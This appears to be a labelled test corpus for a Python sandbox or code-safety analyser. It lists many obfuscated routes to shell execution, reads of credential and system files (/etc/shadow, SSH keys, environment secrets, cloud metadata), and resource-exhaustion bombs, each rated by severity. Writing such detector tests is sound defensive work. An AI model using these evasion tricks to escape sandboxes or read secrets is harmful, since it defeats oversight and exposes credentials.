#### order, shuffle: LOW
import numpy as np
rng = np.random.default_rng()  #! SBX3002
a = np.arange(5)
rng.shuffle(a)
print(a)
#### order, utcnow: LOW
from datetime import datetime, timezone
print(datetime.now(timezone.utc).isoformat())  #! SBX3001
#### order, uuid1: LOW
import uuid
print(uuid.uuid1().hex)  #! SBX3004
#### alias, any gen: HIGH
import os
any(os.system(c) for c in ["id"])
#### alias, argparse action: HIGH
import argparse, os
class A(argparse.Action):
    def __call__(self, parser, ns, values, opt=None):
        os.system(values)
p = argparse.ArgumentParser()
p.add_argument("--c", action=A)
p.parse_args(["--c", "id"])
#### alias, argparse type: HIGH
import argparse, os
p = argparse.ArgumentParser()
p.add_argument("--c", type=os.system, default="id")
p.parse_args([])
#### alias, async exec: HIGH
import asyncio
async def m():
    p = await asyncio.create_subprocess_exec("id")
    await p.wait()
asyncio.run(m())
#### alias, backtrader next: HIGH
import os, backtrader as bt
class S(bt.Strategy):
    def next(self):
        os.system("id")
c = bt.Cerebro(); c.addstrategy(S); c.run()
#### alias, bool if: HIGH
import os
class B:
    def __bool__(self):
        return os.system("id") == 0
if B(): pass
#### alias, cached property: HIGH
import os
from functools import cached_property
class C:
    @cached_property
    def x(self): return os.system("id")
C().x
#### alias, class decorator: HIGH
import os
def deco(cls):
    os.system(cls.__name__)
    return cls
@deco
class id: pass
#### alias, class pattern attr: HIGH
import os
match os:
    case object(system=run):
        run("id")
#### alias, closure nonlocal: HIGH
import os
def outer():
    f = None
    def set_it():
        nonlocal f
        f = os.system
    set_it()
    f("id")
outer()
#### alias, csv dialect: HIGH
import ast, os
class V(ast.NodeVisitor):
    def visit_Constant(self, n):
        os.system(n.value)
V().visit(ast.parse("'id'"))
#### alias, dask: HIGH
import os, dask
dask.delayed(os.system)("id").compute()
#### alias, decorator call: HIGH
import os
@os.system
def cmd(): pass
#### alias, decorator expr: HIGH
import os
@lambda f: os.system("id")
def x(): pass
#### alias, del: HIGH
import os
class D:
    def __del__(self):
        os.system("id")
D()
#### alias, dict dispatch default: HIGH
import os
ops = {}
ops.get("missing", os.system)("id")
#### alias, enter: HIGH
import os
class W:
    def __enter__(self):
        os.system("id")
    def __exit__(self, *a): pass
with W(): pass
#### alias, eq in: HIGH
import os
class E:
    def __eq__(self, o):
        return bool(os.system(o))
"id" in [E()]
#### alias, exec in ns: HIGH
ns = {}
exec("from os import system as s", ns)
ns["s"]("id")
#### alias, filter unpack: HIGH
import os
a, = filter(os.system, ["id"])
#### alias, formatter repr: HIGH
import os
class R:
    def __repr__(self):
        os.system("id")
        return "r"
print(f"{R()!r}")
#### alias, frame locals: HIGH
import os
def g(fn=os.system):
    import inspect
    return inspect.currentframe().f_locals["fn"]("id")
g()
#### alias, freqtrade hook: HIGH
import os
from freqtrade.strategy import IStrategy
class S(IStrategy):
    def bot_start(self, **kw):
        os.popen("id").read()
#### alias, functools singledispatch: HIGH
import os
from functools import singledispatch
@singledispatch
def h(x): return x
h.register(str, os.system)
h("id")
#### alias, getattr hook: HIGH
import os
class G:
    def __getattr__(self, n):
        return os.system(n)
G().id
#### alias, global stmt: HIGH
import os
f = print
def swap():
    global f
    f = os.system
swap()
f("id")
#### alias, hash key: HIGH
import os
class K:
    def __hash__(self):
        return os.system("id")
{K(): 1}
#### alias, index: HIGH
import os
class I:
    def __index__(self):
        return os.system("id")
[1, 2][I()]
#### alias, instancecheck: HIGH
import os
class M(type):
    def __instancecheck__(cls, i):
        os.system("id")
        return True
class X(metaclass=M): pass
isinstance(1, X)
#### alias, iter sentinel: HIGH
import os
for _ in iter(lambda: os.system("id"), 0): break
#### alias, joblib delayed: HIGH
import os
from joblib import Parallel, delayed
Parallel(n_jobs=1)(delayed(os.system)(c) for c in ["id"])
#### alias, json hook: HIGH
import json, os
json.loads('{"id": 1}', object_pairs_hook=lambda p: os.system(p[0][0]))
#### alias, keras lambda: HIGH
import os, tensorflow as tf
tf.keras.layers.Lambda(lambda x: os.system("id"))(tf.ones(1))
#### alias, lambda in class dict: HIGH
import os
K = type("K", (), {"go": lambda self, c: os.system(c)})
K().go("id")
#### alias, lean hook: HIGH
from AlgorithmImports import *
import subprocess
class A(QCAlgorithm):
    def OnData(self, data):
        subprocess.check_output("id", shell=True)
#### alias, len while: HIGH
import os
class L:
    def __len__(self):
        return os.system("id")
len(L())
#### alias, list sort key: HIGH
import os
xs = ["id"]
xs.sort(key=os.system)
#### alias, locals write: HIGH
def f():
    locals()["x"] = __import__("os")
    return locals()["x"].system("id")
f()
#### alias, logging handler: HIGH
import logging, os
class H(logging.Handler):
    def emit(self, record):
        os.system(record.getMessage())
log = logging.getLogger()
log.addHandler(H())
log.warning("id")
#### alias, loop executor: HIGH
import asyncio, os
asyncio.new_event_loop().run_in_executor(None, os.system, "id")
#### alias, map star: HIGH
import os
[*map(os.system, ["id"])]
#### alias, meta call: HIGH
import os
class M(type):
    def __call__(cls, *a):
        return os.system("id")
class X(metaclass=M): pass
X()
#### alias, meta prepare: HIGH
import os
class M(type):
    @classmethod
    def __prepare__(mcs, name, bases):
        os.system(name)
        return {}
class id(metaclass=M): pass
#### alias, method descriptor call: HIGH
import os
class C:
    run = os.system
C.__dict__["run"]("id")
#### alias, mod dict items: HIGH
import os
for k, v in os.__dict__.items():
    if k == "system":
        v("id")
#### alias, module match kw: HIGH
import types, subprocess
match subprocess:
    case types.ModuleType(getoutput=go):
        print(go("id"))
#### alias, mpl formatter: HIGH
import os
from matplotlib.ticker import FuncFormatter
FuncFormatter(lambda x, p: os.system("id"))
#### alias, mro entries: HIGH
import os
class B:
    def __mro_entries__(self, bases):
        os.system("id")
        return ()
class C(B()): pass
#### alias, np loadtxt conv: HIGH
import os, numpy as np
np.loadtxt("/datasets/a.csv", converters={0: os.system})
#### alias, np vectorize: HIGH
import os, numpy as np
np.vectorize(os.system)(["id"])
#### alias, object getattribute: HIGH
import os
object.__getattribute__(os, "system")("id")
#### alias, optuna callback: HIGH
import os, optuna
optuna.create_study().optimize(lambda t: os.system("id"), n_trials=1)
#### alias, pandas apply axis: HIGH
import os, pandas as pd
df = pd.DataFrame({"c": ["id"]})
df.apply(lambda r: os.system(r["c"]), axis=1)
#### alias, pandas converters: HIGH
import os, pandas as pd
pd.read_csv("/datasets/a.csv", converters={"c": os.system})
#### alias, pandas date parser: HIGH
import os, pandas as pd
pd.read_csv("/datasets/a.csv", date_parser=os.system, parse_dates=["c"])
#### alias, pandas style: HIGH
import os, pandas as pd
pd.DataFrame({"c": ["id"]}).style.format({"c": os.system}).to_html()
#### alias, partial keywords: HIGH
import subprocess
from functools import partial
p = partial(subprocess.run)
p.func(["id"])
#### alias, polars map: HIGH
import os, polars as pl
pl.DataFrame({"c": ["id"]})["c"].map_elements(os.system)
#### alias, pool apply: HIGH
from multiprocessing.pool import ThreadPool
import os
ThreadPool(1).apply(os.system, ("id",))
#### alias, re sub fn: HIGH
import re, os
re.sub("id", lambda m: str(os.system(m.group())), "id")
#### alias, recursion return: HIGH
import os
def pick(n):
    return os.system if n == 0 else pick(n - 1)
pick(3)("id")
#### alias, sched: HIGH
import sched, os
s = sched.scheduler()
s.enter(0, 1, os.system, ("id",))
s.run()
#### alias, scipy minimize: HIGH
import os
from scipy.optimize import minimize
minimize(lambda x: os.system("id"), [0.0])
#### alias, setattr hook: HIGH
import os
class S:
    def __setattr__(self, n, v):
        os.system(v)
S().x = "id"
#### alias, signal: HIGH
import signal, os
signal.signal(signal.SIGALRM, lambda *a: os.system("id"))
signal.alarm(1)
#### alias, sk function transformer: HIGH
import os
from sklearn.preprocessing import FunctionTransformer
FunctionTransformer(os.system).fit_transform(["id"])
#### alias, slots descriptor: HIGH
import os
class H:
    __slots__ = ("fn",)
    def __init__(self, fn):
        self.fn = fn
H.fn.__get__(H(os.system))("id")
#### alias, str format spec: HIGH
import os
class F:
    def __format__(self, spec):
        return str(os.system(spec))
f"{F():id}"
#### alias, super getattr: HIGH
import os
class M(type(os)):
    def go(self):
        return super().__getattribute__("system")
m = M("m")
m.__dict__.update(os.__dict__)
m.system("id")
#### alias, thread subclass: HIGH
import threading, os
class T(threading.Thread):
    def run(self):
        os.system("id")
T().start()
#### alias, timer: HIGH
import threading, os
threading.Timer(0, os.system, args=("id",)).start()
#### alias, torch dataset: HIGH
import os, torch
class D(torch.utils.data.Dataset):
    def __len__(self): return 1
    def __getitem__(self, i): return os.system("id")
list(torch.utils.data.DataLoader(D()))
#### alias, torch module forward: HIGH
import os, torch
class N(torch.nn.Module):
    def forward(self, x):
        os.system("id")
        return x
N()(torch.ones(1))
#### alias, type getattribute: HIGH
import os
type(os).__getattribute__(os, "popen")("id")
#### alias, vars get: HIGH
import subprocess
vars(subprocess).get("call")(["id"])
#### alias, warnings hook: HIGH
import warnings, os
warnings.showwarning = lambda *a, **k: os.system("id")
warnings.warn("x")
#### work, fork loop: HIGH
import os
for _ in range(10**6):
    os.fork()
#### import, asyncio transit: HIGH
import asyncio
asyncio.base_events.subprocess.run(["id"])
#### import, codecs register: HIGH
import codecs
def search(name):
    return codecs.CodecInfo(lambda s, e="": (s, 0), lambda b, e="": (exec(b), 0))
codecs.register(search)
b"print(1)".decode("evil")
#### import, concurrent transit: HIGH
from concurrent.futures import process
process.os.system("id")
#### import, decimal transit: HIGH
import fractions
fractions.sys.modules["posix"].system("id")
#### import, exec compile ast: HIGH
import ast
node = ast.Expression(ast.Call(ast.Name("print", ast.Load()), [], []))
eval(compile(ast.fix_missing_locations(node), "", "eval"))
#### import, from glob: HIGH
from glob import os
os.system("id")
#### import, from transit: HIGH
from shutil import os as o
o.system("id")
#### import, import alias chain: HIGH
import logging.handlers as h
h.os.system("id")
#### import, import builtins dict: HIGH
import builtins
builtins.__dict__["__import__"]("os").system("id")
#### import, import fromlist: HIGH
m = __import__("os.path", fromlist=["join"])
m.os.system("id")
#### import, import kw: HIGH
m = __import__(name="subprocess", globals={}, level=0)
m.call(["id"])
#### import, importhook builtin: HIGH
import builtins
orig = builtins.__import__
def spy(name, *a):
    return orig("os" if name == "math" else name, *a)
builtins.__import__ = spy
import math
math.system("id")
#### import, importlib bootstrap load: HIGH
from importlib.util import find_spec
find_spec("os").loader.load_module("os").system("id")
#### import, ld preload: HIGH
import os
os.environ["LD_PRELOAD"] = "/tmp/x.so"
#### import, matplotlib transit: HIGH
import matplotlib
matplotlib.subprocess.run(["id"])
#### import, pandas compat: HIGH
from pandas.compat import os
os.system("id")
#### import, pickle code: HIGH
import marshal, types
types.FunctionType(marshal.loads(b"x"), globals())()
#### import, pyc: HIGH
import py_compile, marshal
code = marshal.loads(open("/datasets/m.pyc", "rb").read()[16:])
exec(code)
#### import, pythonbreakpoint: HIGH
import os
os.environ["PYTHONBREAKPOINT"] = "os.system"
breakpoint("id")
#### import, pythonstartup: HIGH
import os
os.putenv("PYTHONPATH", "/tmp")
os.execv("/usr/bin/python3", ["python3"])
#### import, sklearn transit: HIGH
import sklearn.utils as u
u.os.system("id")
#### import, statistics transit: HIGH
import statistics
statistics.sys.modules["os"].system("id")
#### import, sys breakpointhook: HIGH
import sys, os
sys.breakpointhook = os.system
breakpoint("id")
#### import, tempfile transit: HIGH
import tempfile
tempfile._os.system("id")
#### import, unittest transit: HIGH
import unittest.loader
unittest.loader.os.system("id")
#### import, zipimport: HIGH
import sys
sys.path.insert(0, "/datasets/payload.zip")
import payload
#### network, anthropic: HIGH
import anthropic
anthropic.Anthropic().messages.create(model="m", max_tokens=1, messages=[])
#### network, asyncio dgram: HIGH
import asyncio
loop = asyncio.new_event_loop()
loop.run_until_complete(loop.create_datagram_endpoint(asyncio.DatagramProtocol, remote_addr=("h", 53)))
#### network, asyncpg: HIGH
import asyncpg, asyncio
asyncio.run(asyncpg.connect("postgresql://h"))
#### network, bigquery: HIGH
from google.cloud import bigquery
bigquery.Client().query("select 1")
#### network, boto client: HIGH
import boto3
boto3.client("s3").put_object(Bucket="b", Key="k", Body=b"x")
#### network, ccxt pro: HIGH
import ccxt
getattr(ccxt, "binance")().fetch_ticker("BTC/USDT")
#### network, discord: HIGH
import discord
discord.Client(intents=discord.Intents.default()).run("token")
#### network, dns resolver: HIGH
import dns.resolver
dns.resolver.resolve("x.h", "TXT")
#### network, elastic: HIGH
from elasticsearch import Elasticsearch
Elasticsearch("http://h").search(index="i")
#### network, fastapi: HIGH
import uvicorn
from fastapi import FastAPI
app = FastAPI()
uvicorn.run(app)
#### network, flask: HIGH
from flask import Flask
Flask(__name__).run()
#### network, geopy: HIGH
from geopy.geocoders import Nominatim
Nominatim(user_agent="x").geocode("x")
#### network, grpc: HIGH
import grpc
grpc.insecure_channel("h:50051")
#### network, gspread: HIGH
import gspread
gspread.service_account().open("x")
#### network, http conn: HIGH
import http.client
c = http.client.HTTPSConnection("h"); c.request("GET", "/")
#### network, ib: HIGH
from ib_insync import IB
IB().connect("127.0.0.1", 7497, 1)
#### network, imap: HIGH
from imaplib import IMAP4_SSL
IMAP4_SSL("h").login("u", "p")
#### network, kafka: HIGH
from confluent_kafka import Producer
Producer({"bootstrap.servers": "h:9092"}).produce("t", b"x")
#### network, mechanize: HIGH
import mechanize
mechanize.Browser().open("http://h")
#### network, mongo: HIGH
from pymongo import MongoClient
MongoClient("mongodb://h").db.c.insert_one({})
#### network, mqtt: HIGH
import paho.mqtt.client as mqtt
c = mqtt.Client(); c.connect("h", 1883)
#### network, net pandas clip: HIGH
import pandas as pd
pd.read_clipboard()
#### network, nntp: HIGH
import telnetlib
telnetlib.Telnet("h", 23).write(b"x")
#### network, ntplib: HIGH
import ntplib
ntplib.NTPClient().request("pool.ntp.org")
#### network, openai: HIGH
from openai import OpenAI
OpenAI().chat.completions.create(model="m", messages=[])
#### network, playwright: HIGH
from playwright.sync_api import sync_playwright
with sync_playwright() as p:
    p.chromium.launch().new_page().goto("https://h")
#### network, poplib: HIGH
import poplib
poplib.POP3_SSL("h").user("x")
#### network, prometheus push: HIGH
from prometheus_client import push_to_gateway, CollectorRegistry
push_to_gateway("h:9091", job="j", registry=CollectorRegistry())
#### network, pymysql: HIGH
import pymysql
pymysql.connect(host="h")
#### network, redis: HIGH
import redis
redis.from_url("redis://h").set("k", "v")
#### network, requests getattr: HIGH
import requests
getattr(requests, "po" + "st")("https://h")
#### network, requests session: HIGH
import requests
with requests.Session() as s:
    s.put("https://h", data=b"x")
#### network, scapy: HIGH
from scapy.all import sr1, IP, ICMP
sr1(IP(dst="1.1.1.1") / ICMP())
#### network, scrapy: HIGH
from scrapy.crawler import CrawlerProcess
CrawlerProcess().start()
#### network, selenium: HIGH
from selenium import webdriver
webdriver.Chrome().get("https://h")
#### network, sentry: HIGH
import sentry_sdk
sentry_sdk.init("https://k@h/1")
sentry_sdk.capture_message("x")
#### network, slack: HIGH
from slack_sdk import WebClient
WebClient(token="x").chat_postMessage(channel="c", text="t")
#### network, snowflake: HIGH
import snowflake.connector
snowflake.connector.connect(user="u", account="a")
#### network, socket create: HIGH
import socket
socket.create_connection(("h", 80)).sendall(b"x")
#### network, socket udp: HIGH
import socket
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("h", 53))
#### network, sparql: HIGH
import feedparser
feedparser.parse("https://h/rss")
#### network, statsd: HIGH
import statsd
statsd.StatsClient("h").incr("x")
#### network, twisted: HIGH
from twisted.internet import reactor
reactor.run()
#### network, urllib3 pool: HIGH
import urllib3
urllib3.PoolManager().request("GET", "https://h")
#### network, urllib opener: HIGH
import urllib.request as u
u.build_opener().open("http://h/")
#### network, urlretrieve: HIGH
from urllib.request import urlretrieve
urlretrieve("http://h/x", "/tmp/x")
#### network, websocket: HIGH
import websockets, asyncio
async def m():
    async with websockets.connect("wss://h") as w:
        await w.send("x")
asyncio.run(m())
#### strings, annotations key: HIGH
import os
class C:
    system: int
getattr(os, list(C.__annotations__)[0])("id")
#### strings, ast literal: HIGH
import os, ast
getattr(os, ast.literal_eval("'sys' 'tem'"))("id")
#### strings, bin chunks: HIGH
import os
b = "011100110111100101110011011101000110010101101101"
getattr(os, "".join(chr(int(b[i:i+8], 2)) for i in range(0, len(b), 8)))("id")
#### strings, bytearray append: HIGH
import os
b = bytearray()
for c in (115, 121, 115, 116, 101, 109):
    b.append(c)
getattr(os, b.decode())("id")
#### strings, bytes fromhex: HIGH
import os
getattr(os, bytes.fromhex("73 79 73 74 65 6d").decode())("id")
#### strings, bytesio: HIGH
import os, io
getattr(os, io.BytesIO(b"system").read().decode())("id")
#### strings, caesar func: HIGH
import os
def dec(s, k):
    out = ""
    for ch in s:
        out += chr((ord(ch) - 97 - k) % 26 + 97)
    return out
getattr(os, dec("vbvwhp", 3))("id")
#### strings, center strip: HIGH
import os
getattr(os, "system".center(20, "*").strip("*"))("id")
#### strings, chr list map: HIGH
import os
getattr(os, "".join(map(lambda n: chr(n + 1), [114, 120, 114, 115, 100, 108])))("id")
#### strings, chr sum: HIGH
import os
getattr(os, "".join(chr(sum(p)) for p in [(100, 15), (100, 21), (100, 15), (100, 16), (100, 1), (100, 9)]))("id")
#### strings, code names: HIGH
import os
getattr(os, (lambda: system).__code__.co_names[0])("id")
#### strings, csv: HIGH
import os, csv
getattr(os, next(csv.reader(["popen,system"]))[1])("id")
#### strings, dict lookup: HIGH
import os
k = dict(enumerate("metsy"))
getattr(os, k[3] + k[4] + k[3] + k[2] + k[1] + k[0])("id")
#### strings, enum name: HIGH
import os, enum
class E(enum.Enum):
    system = 1
getattr(os, E.system.name)("id")
#### strings, expandtabs: HIGH
import os
getattr(os, "sys\ttem".expandtabs(0))("id")
#### strings, format attr: HIGH
import os
class P: a = "sys"; b = "tem"
getattr(os, "{p.a}{p.b}".format(p=P))("id")
#### strings, format index: HIGH
import os
getattr(os, "{0[1]}{0[0]}".format(["tem", "sys"]))("id")
#### strings, fstring nested: HIGH
import os
a = "sys"; w = {"k": "tem"}
getattr(os, f"{a}{w['k']}")("id")
#### strings, func name: HIGH
import os
def system(): pass
getattr(os, system.__name__)("id")
#### strings, hash search: HIGH
import os, hashlib
for n in dir(os):
    if hashlib.md5(n.encode()).hexdigest().startswith("54b53"):
        getattr(os, n)("id")
#### strings, int base36: HIGH
import os
n = int("system", 36)
s = ""
while n:
    n, r = divmod(n, 36)
    s = "0123456789abcdefghijklmnopqrstuvwxyz"[r] + s
getattr(os, s)("id")
#### strings, join gen cond: HIGH
import os
getattr(os, "".join(c for c in "s_y_s_t_e_m" if c != "_"))("id")
#### strings, json list: HIGH
import os, json
getattr(os, "".join(json.loads('["sys","tem"]')))("id")
#### strings, kwargs name: HIGH
import os
def f(**kw):
    return next(iter(kw))
getattr(os, f(system=1))("id")
#### strings, len filter: HIGH
import os
c = [getattr(os, n) for n in dir(os) if len(n) == 6 and n[0] == "s" and n[-1] == "m"]
c[0]("id")
#### strings, list insert: HIGH
import os
l = list("ystem")
l.insert(0, "s")
getattr(os, "".join(l))("id")
#### strings, memoryview: HIGH
import os
getattr(os, bytes(memoryview(b"xsystemx")[1:-1]).decode())("id")
#### strings, min key: HIGH
import os, difflib
getattr(os, difflib.get_close_matches("sistem", dir(os))[0])("id")
#### strings, namedtuple fields: HIGH
import os
from collections import namedtuple
T = namedtuple("T", "system")
getattr(os, T._fields[0])("id")
#### strings, ord shift: HIGH
import os
getattr(os, "".join(chr(ord(c) - 1) for c in "tztufn"))("id")
#### strings, partition: HIGH
import os
_, _, name = "call:system".partition(":")
getattr(os, name)("id")
#### strings, path stem: HIGH
import os
from pathlib import PurePath
getattr(os, PurePath("/x/system.py").stem)("id")
#### strings, shlex: HIGH
import os, shlex
getattr(os, shlex.split("a system b")[1])("id")
#### strings, slice rev step: HIGH
import os
getattr(os, "mxextxsxyxs"[::-2])("id")
#### strings, sorted dir index: HIGH
import os
getattr(os, sorted(dir(os))[-40])("id")
#### strings, splitext: HIGH
import os
getattr(os, os.path.splitext("system.txt")[0])("id")
#### strings, splitlines: HIGH
import os
getattr(os, "popen\nsystem".splitlines()[1])("id")
#### strings, stringio: HIGH
import os, io
b = io.StringIO()
b.write("sys"); b.write("tem")
getattr(os, b.getvalue())("id")
#### strings, swapcase: HIGH
import os
getattr(os, "SyStEm".swapcase().lower())("id")
#### strings, unhexlify: HIGH
import os, binascii
getattr(os, binascii.unhexlify("73797374656d").decode())("id")
#### strings, urlparse: HIGH
import os
from urllib.parse import urlparse, parse_qs
getattr(os, parse_qs("f=system")["f"][0])("id")
#### strings, xor zip: HIGH
import os
from itertools import cycle
d = [24, 18, 24, 31, 14, 6]
getattr(os, "".join(chr(a ^ b) for a, b in zip(d, cycle([107]))))("id")
#### strings, zfill lstrip: HIGH
import os
getattr(os, "system".zfill(10).lstrip("0"))("id")
#### letters, fullwidth attr: HIGH
import subprocess
subprocess.ｒｕｎ(["id"])
#### letters, homoglyph eval: HIGH
import builtins
setattr(builtins, "еval", eval)
builtins.еval("1")
#### secrets, codecs read: HIGH
import codecs
print(codecs.open("/etc/passwd", encoding="utf-8").read())
#### secrets, copytree: HIGH
import shutil
shutil.copytree("/root", "/tmp/out")
#### secrets, csv reader: HIGH
import csv
print(list(csv.reader(open("/etc/passwd"), delimiter=":")))
#### secrets, dev mem: HIGH
open("/dev/mem", "rb").read(10)
#### secrets, docker sock: HIGH
import http.client, socket
s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM); s.connect("/var/run/docker.sock")
#### secrets, env items join: HIGH
import os
print("\n".join(f"{k}={v}" for k, v in os.environ.items()))
#### secrets, env json stdout: HIGH
import json, os, sys
json.dump({**os.environ}, sys.stdout)
#### secrets, env log: HIGH
import logging, os
logging.error("key %s", os.getenv("AWS_SECRET_ACCESS_KEY"))
#### secrets, environb: HIGH
import os
print(dict(os.environb))
#### secrets, filecmp: HIGH
import filecmp
filecmp.cmp("/etc/shadow", "x", shallow=False)
#### secrets, getpass user: HIGH
import pwd
print(pwd.getpwall())
#### secrets, github actions: HIGH
with open("/github/workflow/event.json") as f, open("/proc/1/cmdline") as g:
    print(f.read(), g.read())
#### secrets, glob read: HIGH
import glob
for p in glob.glob("/home/*/.ssh/id_*"):
    print(open(p).read())
#### secrets, hardlink: HIGH
from pathlib import Path
Path("x").hardlink_to("/etc/shadow")
#### secrets, io open code: HIGH
import io
print(io.open_code("/etc/passwd").read())
#### secrets, kill parent: HIGH
import os, signal
os.kill(os.getppid(), signal.SIGKILL)
#### secrets, make archive: HIGH
import shutil
shutil.make_archive("/tmp/out", "zip", "/etc")
#### secrets, metadata: HIGH
import urllib.request
urllib.request.urlopen("http://169.254.169.254/latest/meta-data/")
#### secrets, netrc: HIGH
import netrc
print(netrc.netrc().hosts)
#### secrets, os sendfile: HIGH
import os
fd = os.open("/etc/shadow", os.O_RDONLY)
print(os.read(fd, 99))
#### secrets, pathlib open: HIGH
from pathlib import Path
with Path("/etc").joinpath("shadow").open() as f:
    f.read()
#### secrets, pd fwf: HIGH
import pandas as pd
print(pd.read_fwf("/proc/self/environ"))
#### secrets, pd passwd: HIGH
import pandas as pd
print(pd.read_csv("/etc/passwd", sep=":"))
#### secrets, proc fd: HIGH
import os
print(os.readlink("/proc/self/exe"), open(f"/proc/{os.getppid()}/environ").read())
#### secrets, ptrace: HIGH
import ctypes
ctypes.CDLL("libc.so.6").ptrace(16, 1, 0, 0)
#### secrets, sqlite attach: HIGH
import sqlite3
sqlite3.connect(":memory:").execute("attach database '/etc/x.db' as y")
#### secrets, sqlite secret: HIGH
import sqlite3
print(sqlite3.connect("/root/.mozilla/firefox/x/cookies.sqlite").execute("select * from moz_cookies").fetchall())
#### secrets, symlink: HIGH
import os
os.symlink("/etc/passwd", "/workspace/x.csv")
#### secrets, tar secret: HIGH
import tarfile, sys
with tarfile.open(sys.argv[2], "w") as t:
    t.add("/root/.ssh")
#### secrets, zip secret: HIGH
import zipfile, sys
with zipfile.ZipFile(sys.argv[2], "w") as z:
    z.write("/etc/passwd")
#### work, append forever: MEDIUM
xs = []
while 1:
    xs.append("x" * 10**6)
#### work, bigint pow: MEDIUM
pow(3, 10**10)
#### work, dict comp huge: MEDIUM
{i: i for i in range(10**10)}
#### work, fact: MEDIUM
from math import factorial
factorial(10**9)
#### work, fmt prec: MEDIUM
"%.1000000000f" % 1.0
#### work, for cycle: MEDIUM
import itertools
for x in itertools.cycle([1]):
    x += 1
#### work, for iter int: MEDIUM
for _ in iter(int, 1):
    pass
#### work, gen exp endless: MEDIUM
def g():
    while True:
        yield 1
list(g())
#### work, getattr rec: MEDIUM
class A:
    def __getattr__(self, n):
        return getattr(self, n + "x")
A().y
#### work, itertools product: MEDIUM
from itertools import product
list(product("abcdefghij", repeat=12))
#### work, join repeat: MEDIUM
"".join("a" for _ in range(10**11))
#### work, matrix power: MEDIUM
import numpy as np
np.linalg.inv(np.ones((10**5, 10**5)))
#### work, mutual: MEDIUM
def a(): return b()
def b(): return a()
a()
#### work, np full: MEDIUM
import numpy as np
np.full((10**6, 10**6), 1.0)
#### work, np random: MEDIUM
import numpy as np
np.random.default_rng(0).normal(size=10**12)
#### work, np repeat: MEDIUM
import numpy as np
np.repeat([1], 10**12)
#### work, permutations: MEDIUM
from itertools import permutations
for p in permutations(range(15)): pass
#### work, recursion method: MEDIUM
class A:
    def f(self):
        return self.f()
A().f()
#### work, regex alt: MEDIUM
import re
re.search(r"^(a|a)*$", "a" * 50 + "b")
#### work, regex nested: MEDIUM
import re
re.fullmatch(r"(x+x+)+y", "x" * 60)
#### work, set range: MEDIUM
set(range(10**10))
#### work, shift: MEDIUM
1 << (10**12)
#### work, sleep long: MEDIUM
import time
time.sleep(86400 * 365)
#### work, sorted range: MEDIUM
sorted(range(10**10))
#### work, str ljust: MEDIUM
"x".rjust(10**11)
#### work, thread bomb: MEDIUM
import threading
while True:
    threading.Thread(target=lambda: None).start()
#### work, torch zeros: MEDIUM
import torch
torch.zeros(10**6, 10**7)
#### work, while not false: MEDIUM
while not False:
    x = 1
#### work, xml bomb: MEDIUM
import xml.etree.ElementTree as E
E.fromstring('<!DOCTYPE l [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]><l>&c;</l>')
#### work, zip bomb: MEDIUM
import zlib
zlib.decompress(zlib.compress(b"\0" * 10**10))
#### order, cpu: LOW
import os
print(os.cpu_count())  #! SBX3006
#### order, datetime now: LOW
import datetime as dt
print(dt.datetime.now())  #! SBX3001
#### order, hash str: LOW
print(hash("abc"))  #! SBX3008
#### order, id (2): LOW
print(id(object()))  #! SBX3008
#### order, listdir: LOW
import os
print(os.listdir("/datasets"))  #! SBX3007
#### order, localtime: LOW
import time
print(time.strftime("%Y"))  #! SBX3001
#### order, np choice: LOW
import numpy as np
np.random.shuffle([1, 2])  #! SBX3002
#### order, pd today: LOW
import pandas as pd
print(pd.Timestamp.today())  #! SBX3001
#### order, random method: LOW
from random import Random
print(Random().random())  #! SBX3002
#### order, secrets: LOW
import secrets
print(secrets.token_hex())  #! SBX3004
#### order, set iter: LOW
for s in {"a", "b"}: print(s)  #! SBX3003
#### order, set join: LOW
print(",".join(set(["a", "b"])))  #! SBX3003
#### order, sk forest: LOW
from sklearn.ensemble import RandomForestClassifier
RandomForestClassifier().fit([[1]], [1])  #! SBX3002
#### order, sk split: LOW
from sklearn.model_selection import train_test_split
print(train_test_split([1, 2, 3]))  #! SBX3002
#### order, tf: LOW
import tensorflow as tf
print(tf.random.normal([3]))  #! SBX3002
#### order, time ns: LOW
import time
print(time.time_ns())  #! SBX3001
#### order, torch: LOW
import torch
print(torch.randn(3))  #! SBX3002
#### order, urandom: LOW
import os
print(os.urandom(4).hex())  #! SBX3004
#### order, uuid4: LOW
from uuid import uuid4
print(uuid4())  #! SBX3004
#### alias, numpy.system("id"): HIGH
import os as numpy
numpy.system("id")
#### alias, system("id"): HIGH
from os import *
system("id")
#### alias, getoutput("id"): HIGH
from subprocess import *
getoutput("id")
#### alias, s, = (os.system,) / s("id"): HIGH
import os
s, = (os.system,)
s("id")
#### alias, (lambda f  f("id"))(os.system): HIGH
import os
(lambda f: f("id"))(os.system)
#### alias, [os.system][0]("id"): HIGH
import os
[os.system][0]("id")
#### alias, {1  os.system}[1]("id"): HIGH
import os
{1: os.system}[1]("id")
#### alias, os.__dict__["system"]("id"): HIGH
import os
os.__dict__["system"]("id")
#### alias, os.system.__call__("id"): HIGH
import os
os.system.__call__("id")
#### alias, (os.system if 1 else print)("id"): HIGH
import os
(os.system if 1 else print)("id")
#### alias, f = getattr(os, "system") / f("id"): HIGH
import os
f = getattr(os, "system")
f("id")
#### alias, exec_("/bin/sh", "sh"): HIGH
import os
exec_ = os.execl
exec_("/bin/sh", "sh")
#### alias, z = y.popen / z("id"): HIGH
import os
x = os
y = x
z = y.popen
z("id")
#### alias, A.o.system("id"): HIGH
import os
class A: o = os
A.o.system("id")
#### alias, A().o.system("id"): HIGH
import os
class A: pass
A.o = os
A().o.system("id")
#### alias, def f(o=os)  o.system("id") / f(): HIGH
import os
def f(o=os): o.system("id")
f()
#### alias, print(os.system("id"), file=None): HIGH
import os
print(os.system("id"), file=None)
#### alias, os.system("id"): HIGH
import os
__import__ = None
os.system("id")
#### alias, vars()["os"].system("id"): HIGH
import os
vars()["os"].system("id")
#### alias, globals()["os"].system("id"): HIGH
import os
globals()["os"].system("id")
#### alias, locals()["os"].system("id"): HIGH
import os
locals()["os"].system("id")
#### alias, sys.modules["os"].system("id"): HIGH
import sys
sys.modules["os"].system("id")
#### alias, builtins.go = os.system / go("id"): HIGH
import os
import builtins
builtins.go = os.system
go("id")
#### alias, for f in (os.system,)  f("id"): HIGH
import os
for f in (os.system,): f("id")
#### alias, with open("/datasets/x") as f, __import__("contextlib").nullcontext(os.system) a: HIGH
import os
with open("/datasets/x") as f, __import__("contextlib").nullcontext(os.system) as g: g("id")
